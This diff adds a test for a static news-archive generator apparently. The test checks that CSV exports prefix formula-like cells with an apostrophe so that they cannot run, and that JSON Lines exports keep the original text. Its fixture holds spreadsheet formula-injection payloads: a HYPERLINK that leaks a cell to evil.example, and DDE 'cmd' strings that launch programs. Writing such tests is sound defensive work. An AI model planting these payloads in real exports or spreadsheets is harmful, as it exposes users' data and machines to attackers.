@@ -66,3 +66,46 @@ def test_head_answers_exactly_what_get_would_without_the_body(tmp_path: Path, mo
         assert _ask(server.url, "HEAD", paths[5])[0] == 404  # a folder without an index is never listed
     finally:
         server.stop()
+
+
+# ---- CSV export: no cell a spreadsheet would run ----
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
+    "source": "+cmd|' /C calc'!A0",
+    "summary": "@SUM(1+1)*cmd|' /C notepad'!A1",
+    "author": "-2+3+cmd|' /C explorer'!A0",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe_and_json_lines_keep_the_text(
+        tmp_path: Path):
+    site = write_site(tmp_path / "site", {
+        "2018/03/2018-03-26-formula.md": article(**{k: json.dumps(v, ensure_ascii=False)
+                                                    for k, v in FORMULAS.items() if k != "author"},
+                                                 date="2018-03-26T07:45:00+02:00", language="fr",
+                                                 author=json.dumps(FORMULAS["author"]),
+                                                 tags='["=1+1", "\'@already quoted", "marée"]',
+                                                 body="Le texte.\n"),
+        "2018/03/2018-03-25-plain.md": article(json.dumps("'Tis the season: ferry fares rise"), "2018-03-25",
+                                               "Harbour Gazette", language="en", tags='["-"]'),
+    }, "title: Archives du littoral\nbase_url: https://newsarchive.example/\n")
+    build(site, BuildOptions(search=False, jobs=1))
+    data = site / "build/data"
+    raw = (data / "articles-2018.csv").read_text(encoding="utf-8")
+    cells = [cell for row in __import__("csv").reader(raw.splitlines(keepends=True)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=HYPERLINK(" in raw and "'+cmd|" in raw and "'@SUM(" in raw
+    assert "'Tis the season" in raw and "''Tis" not in raw  # an apostrophe before plain text stays one
+    exact = [json.loads(line) for line in (data / "articles-2018.jsonl").read_text(encoding="utf-8").splitlines()]
+    formula = next(o for o in exact if o["title"].startswith("="))
+    assert [formula[k] for k in ("title", "source", "summary")] == \
+        [FORMULAS["title"], FORMULAS["source"], FORMULAS["summary"]]
+    assert formula["authors"] == [FORMULAS["author"]] and formula["tags"][:2] == ["=1+1", "'@already quoted"]
+    back = datasets.from_csv(raw)  # the tables' own reader takes the apostrophes off again
+    assert [{k: json.loads(v) if k in ("authors", "tags") else v or None for k, v in r.items()} for r in back] \
+        == exact
+    package = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
+    csv_resource = next(r for r in package["resources"] if r["format"] == "csv")
+    assert "apostrophe" in csv_resource["description"] and "formula" in csv_resource["description"]
+    assert "apostrophe" in (data / "index.html").read_text(encoding="utf-8")
